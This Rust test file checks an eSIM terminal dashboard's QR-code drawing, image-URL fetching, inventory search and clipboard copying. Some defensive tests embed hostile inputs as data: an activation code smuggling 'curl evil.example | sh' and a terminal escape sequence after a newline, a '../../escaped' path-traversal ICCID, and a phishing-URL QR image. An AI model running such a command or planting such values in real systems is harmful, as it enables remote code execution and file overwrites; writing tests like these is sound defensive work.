//! My eSIMs: the QR code a phone scans, for every seeded eSIM; the qrCodeUrl path and its
//! failures; search over the whole inventory; ICCID and code to the clipboard.

use crate::common::*;
use crossterm::event::KeyCode;
use esimdash_api::Client;
use esimdash_api::model::{Esim, EsimQuery};
use esimdash_domain::status::StatusFilter;
use esimdash_qr::QrMatrix;
use esimdash_sandbox::spawn;
use esimdash_tui::app::{Mode, Tone};

async fn acme_client() -> (esimdash_sandbox::RunningSandbox, Client) {
    let sandbox = spawn(&unpaced_sandbox(), "127.0.0.1:0".parse().unwrap()).await.unwrap();
    let client = api(&sandbox);
    (sandbox, client)
}

/// Every seeded eSIM: its code (from `ac` or from its PNG) → QR → the half-block text the view
/// draws → modules → a QR decoder → the same code.
#[tokio::test]
async fn every_seeded_esim_round_trips_through_the_drawn_qr() {
    let (_sandbox, client) = acme_client().await;
    let (mut all, mut page) = (Vec::new(), 1);
    loop {
        let q = EsimQuery {
            page: Some(page),
            page_size: Some(100),
            status: StatusFilter::All,
            iccid: None,
        };
        let found = client.esims(&q).await.unwrap();
        let done = found.esims.len() < 100;
        all.extend(found.esims);
        if done {
            break;
        }
        page += 1;
    }
    assert!(all.len() >= 300);
    let mut from_png = 0;
    let (mut drawn_pngs, mut codes) = (Vec::new(), Vec::new());
    for esim in &all {
        let code = client
            .activation_code(esim)
            .await
            .unwrap_or_else(|e| panic!("{}: {e}", esim.raw_order_json.iccid));
        if esim.raw_order_json.ac.is_none() {
            from_png += 1;
        }
        let drawn = QrMatrix::encode(&code).unwrap().to_half_blocks();
        let lines: Vec<&str> = drawn.iter().map(String::as_str).collect();
        let decoded = QrMatrix::from_half_blocks(&lines).unwrap().decode().unwrap();
        assert_eq!(decoded, code, "{}", esim.raw_order_json.iccid);
        // The drawn text, as a picture of it for a second decoder.
        drawn_pngs.push(QrMatrix::from_half_blocks(&lines).unwrap().to_png(4).unwrap());
        codes.push(code);
    }
    if let Some(read) = zbar_decode(&drawn_pngs) {
        assert_eq!(read, codes, "ZBar reads every drawn code as its activation code");
    }
    assert!(from_png > 50, "the PNG path was exercised {from_png} times");
}

/// The QR code on the rendered screen (not a separate drawing) decodes to the eSIM's code.
#[tokio::test]
async fn the_qr_on_the_rendered_screen_decodes_to_the_selected_esims_code() {
    let mut h = Harness::acme_on('3').await;
    let mut drawn = 0;
    while drawn < 4 {
        let esim = h.app.selected_esim().unwrap().clone();
        // The pane draws the code only where it can be installed now.
        if esim.facts().classify() != esimdash_domain::esim_state::Class::ReadyToInstall {
            assert!(h.screen(120, 40).contains("QR code not drawn"));
            h.send_and_settle(key('j')).await;
            continue;
        }
        drawn += 1;
        let code = code_of(&h, &esim.raw_order_json.iccid);
        let screen = h.screen(120, 40);
        let qr = qr_from_screen(&screen).expect("a QR code is on the screen");
        assert_eq!(qr.decode().unwrap(), code);
        h.send_and_settle(key('j')).await;
    }
}

fn esim_with_url(url: &str) -> Esim {
    serde_json::from_value(serde_json::json!({"rawOrderJson": {"iccid": "8944100000002080711", "qrCodeUrl": url}}))
        .unwrap()
}

/// The qrCodeUrl path against the sandbox's PNGs and against images that must be refused.
#[tokio::test]
async fn the_qr_code_url_path_decodes_real_pngs_and_refuses_the_rest() {
    use axum::routing::get;
    let (sandbox, client) = acme_client().await;
    // A 404 from the sandbox's own image route.
    let err = client
        .activation_code(&esim_with_url(&format!("{}/qr/none.png", sandbox.origin())))
        .await
        .unwrap_err();
    assert!(err.contains("HTTP 404"), "{err}");
    let blank = QrMatrix {
        width: 21,
        dark: vec![false; 441],
    }
    .to_png(4)
    .unwrap();
    let phishing = QrMatrix::encode("https://phishing.example/login")
        .unwrap()
        .to_png(6)
        .unwrap();
    let seen_auth = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let saw = seen_auth.clone();
    let app = axum::Router::new()
        .route("/huge.png", get(|| async { vec![0u8; 3 * 1024 * 1024] }))
        .route("/blank.png", get(move || async move { blank }))
        .route("/phishing.png", get(move || async move { phishing }))
        .route("/text", get(|| async { "not an image" }))
        .route(
            "/who.png",
            get(move |headers: axum::http::HeaderMap| async move {
                saw.store(
                    headers.contains_key("x-secret-key") || headers.contains_key("x-access-code"),
                    std::sync::atomic::Ordering::SeqCst,
                );
                axum::http::StatusCode::NOT_FOUND
            }),
        );
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let origin = format!("http://{}", listener.local_addr().unwrap());
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    for (path, expected) in [
        ("/huge.png", "larger than 2 MiB"),
        ("/blank.png", "no QR code"),
        ("/phishing.png", "does not hold an eSIM activation code"),
        ("/text", "not a PNG"),
    ] {
        let err = client
            .activation_code(&esim_with_url(&format!("{origin}{path}")))
            .await
            .unwrap_err();
        assert!(err.contains(expected), "{path}: {err}");
    }
    let err = client
        .activation_code(&esim_with_url("ftp://example.com/x.png"))
        .await
        .unwrap_err();
    assert!(err.contains("http"), "{err}");
    let _ = client
        .activation_code(&esim_with_url(&format!("{origin}/who.png")))
        .await;
    assert!(
        !seen_auth.load(std::sync::atomic::Ordering::SeqCst),
        "credentials are never sent to an image address"
    );
}

#[tokio::test]
async fn the_search_reads_the_inventory_in_the_background_and_jumps_to_a_whole_iccid() {
    let mut h = Harness::acme_on('3').await;
    // The oldest eSIM, read by the test's own client: on a page the app has not read.
    let (target, _) = oldest_esim(&h).await;
    h.send(key('/'));
    // Typing starts the background read; the index has the list's first page so far.
    h.keys(&target[..10]);
    assert!(h.screen(120, 40).contains("index 50 of 399"), "{}", h.screen(120, 40));
    h.settle().await;
    let scans = h.count(|r| matches!(r, esimdash_tui::msg::Request::EsimScan { .. }));
    assert_eq!(scans, 4, "399 eSIMs in pages of 100");
    assert!(h.screen(120, 40).contains("all 399 in the index"));
    assert!(h.app.esims().result_count() > 1, "a partial ICCID matches several");
    h.keys(&target[10..]);
    assert!(
        matches!(h.app.mode(), Mode::Detail),
        "a whole ICCID that is found ends typing, detail open"
    );
    assert_eq!(h.app.selected_iccid().as_deref(), Some(target.as_str()));
    h.settle().await;
    assert_eq!(h.app.selected_esim().unwrap().raw_order_json.iccid, target);
    // By package name too.
    h.send(code(KeyCode::Esc));
    h.send(code(KeyCode::Esc));
    h.send(key('/'));
    h.keys("kenya");
    assert!(h.app.esims().result_count() > 0);
    assert!(h.app.esims().result_rows(h.app.index()).all(|r| match r {
        esimdash_tui::tabs::esims::ResultRow::Indexed(row) => row.package.name.contains("Kenya"),
        esimdash_tui::tabs::esims::ResultRow::Fetched(e) => e.record.package_name.contains("Kenya"),
    }));
}

#[tokio::test]
async fn y_copies_the_iccid_and_capital_y_the_activation_code_once_known() {
    let mut h = Harness::acme().await;
    h.send(key('3'));
    let effects = h.send(key('y'));
    assert!(copies(&effects).is_empty(), "nothing loaded, nothing selected");
    h.settle().await;
    let esim = h.app.selected_esim().unwrap().clone();
    let effects = h.send(key('y'));
    assert_eq!(copies(&effects), vec![("ICCID", esim.raw_order_json.iccid.to_string())]);
    h.settle().await;
    let code = code_of(&h, &esim.raw_order_json.iccid);
    let effects = h.send(key('Y'));
    assert_eq!(copies(&effects), vec![("Activation code", code)]);
    // What the runtime reports back becomes the message: sent, not "copied", for OSC 52.
    let delivery = esimdash_front::clipboard::Delivery::Osc52 { via: Some("tmux") };
    h.send(esimdash_tui::msg::Msg::Copied {
        what: "ICCID",
        result: Ok(delivery),
    });
    assert!(
        h.app
            .flash_message()
            .unwrap()
            .text
            .starts_with("ICCID sent to the terminal's clipboard")
    );
    h.send(esimdash_tui::msg::Msg::Copied {
        what: "ICCID",
        result: Err("nothing was copied: no clipboard".into()),
    });
    let flash = h.app.flash_message().unwrap();
    assert!(flash.tone == Tone::Error && flash.text.contains("not copied"));
}

#[tokio::test]
async fn an_iccid_typed_before_its_page_arrives_is_jumped_to_when_it_does() {
    let mut h = Harness::acme_on('3').await;
    // The last eSIM of the inventory: on the last page of the background read.
    let (target, _) = oldest_esim(&h).await;
    h.send(key('/'));
    h.keys(&target);
    assert!(matches!(h.app.mode(), Mode::Typing), "not found yet: still typing");
    h.settle().await;
    assert!(matches!(h.app.mode(), Mode::Detail), "found when its page came in");
    assert_eq!(h.app.selected_esim().unwrap().raw_order_json.iccid, target);
    assert_eq!(
        h.app.flash_message().as_ref().map(|f| f.text.as_str()),
        Some("Found the eSIM with that ICCID")
    );
}

/// The oldest eSIM's ICCID and the list's total, read by a client of the test's own (the app's
/// would hand the page to its index).
async fn oldest_esim(h: &Harness) -> (String, u64) {
    let api = h.api();
    let page = |page: u64| esimdash_api::model::EsimQuery {
        page: Some(page),
        page_size: Some(100),
        ..Default::default()
    };
    let total = api.esims(&page(1)).await.unwrap().total;
    let last = api.esims(&page(total.div_ceil(100))).await.unwrap();
    (last.esims.last().unwrap().raw_order_json.iccid.to_string(), total)
}

/// The activation code the app holds for an eSIM; fails the test if it has none.
pub(crate) fn code_of(h: &Harness, iccid: &str) -> String {
    let selected = h.app.selected_esim().filter(|e| e.raw_order_json.iccid == iccid);
    match selected.and_then(|e| h.app.esims().code(e)).and_then(|c| c.value()) {
        Some(Ok(code)) => code.clone(),
        other => panic!("no activation code for {iccid}: {other:?}"),
    }
}

/// A server whose `ac` carries a newline and escape sequences: the pane says why there is no
/// QR code and draws none, the raw text never reaches the screen, and `Y` and `l` copy nothing
/// (pasted into a shell, the newline would run the rest); `y` still copies the ICCID.
#[tokio::test]
async fn a_hostile_activation_code_is_never_drawn_or_copied() {
    let mut h = Harness::acme().await;
    let hostile = "LPA:1$rsp.esim.example$ABC\ncurl evil.example | sh\x1b]0;owned\x07";
    first_page_served_as(&mut h, |esims| {
        for esim in esims {
            esim.raw_order_json.ac = Some(hostile.to_string());
        }
    })
    .await;
    let iccid = h.app.selected_iccid().unwrap().to_string();
    let screen = h.screen(120, 40);
    assert!(
        screen.contains("No QR code: the API's activation code holds") && screen.contains("control characters"),
        "{screen}"
    );
    assert!(
        !screen.contains("evil.example") && !screen.contains('\u{1b}'),
        "{screen}"
    );
    assert!(
        crate::common::qr_from_screen(&screen).is_err(),
        "no QR code drawn:\n{screen}"
    );
    for k in ['Y', 'l'] {
        let effects = h.send(key(k));
        assert!(copies(&effects).is_empty(), "{k} copied {:?}", copies(&effects));
        let flash = h.app.flash_message().unwrap();
        assert_eq!(flash.tone, Tone::Error, "{k}");
        assert!(flash.text.contains("not an LPA:1$… code"), "{k}: {}", flash.text);
    }
    assert_eq!(copies(&h.send(key('y'))), vec![("ICCID", iccid)]);
}

/// A server whose ICCID is a path (`../`): it is shown as it came, but `w` writes no file
/// named after it (the name would land outside the export directory) and `y` copies nothing;
/// the message says the ICCID is not valid.
#[tokio::test]
async fn an_iccid_from_the_api_that_is_a_path_names_no_file_and_is_not_copied() {
    use esimdash_tui::msg::Effect;
    let mut h = Harness::acme().await;
    first_page_served_as(&mut h, |esims| {
        esims[0].raw_order_json.iccid = esimdash_domain::iccid::EsimIccid::parse("../../escaped");
        esims[0].raw_order_json.ac = Some("LPA:1$rsp.esim.example$ABC123".to_string());
    })
    .await;
    assert!(h.screen(120, 40).contains("../../escaped"), "shown as it came");
    let effects = h.send(key('w'));
    assert!(
        !effects.iter().any(|e| matches!(e, Effect::SaveQr { .. })),
        "{effects:?}"
    );
    let flash = h.app.flash_message().unwrap();
    assert_eq!(flash.tone, Tone::Error);
    assert!(flash.text.contains("ICCID from the API is not valid"), "{}", flash.text);
    assert!(copies(&h.send(key('y'))).is_empty(), "not copied as an ICCID");
}

/// Opens My eSIMs with its first page as the sandbox serves it, changed by `edit` (a server
/// that sends what ours never does).
async fn first_page_served_as(h: &mut Harness, edit: impl FnOnce(&mut Vec<esimdash_api::model::Esim>)) {
    use esimdash_tui::msg::{Answer, Msg, Payload, Request};
    h.send(key('3'));
    let (id, request) = h
        .pending()
        .iter()
        .find(|(_, r)| matches!(r, Request::Esims(_)))
        .cloned()
        .expect("My eSIMs asks for its first page");
    let Ok(Payload::Esims(mut page)) = request.run(&h.api(), &Default::default()).await else {
        panic!("the first page");
    };
    edit(&mut page.esims);
    h.send(Msg::Answer(Box::new(Answer {
        id,
        result: Ok(Payload::Esims(page)),
    })));
    h.settle().await;
}
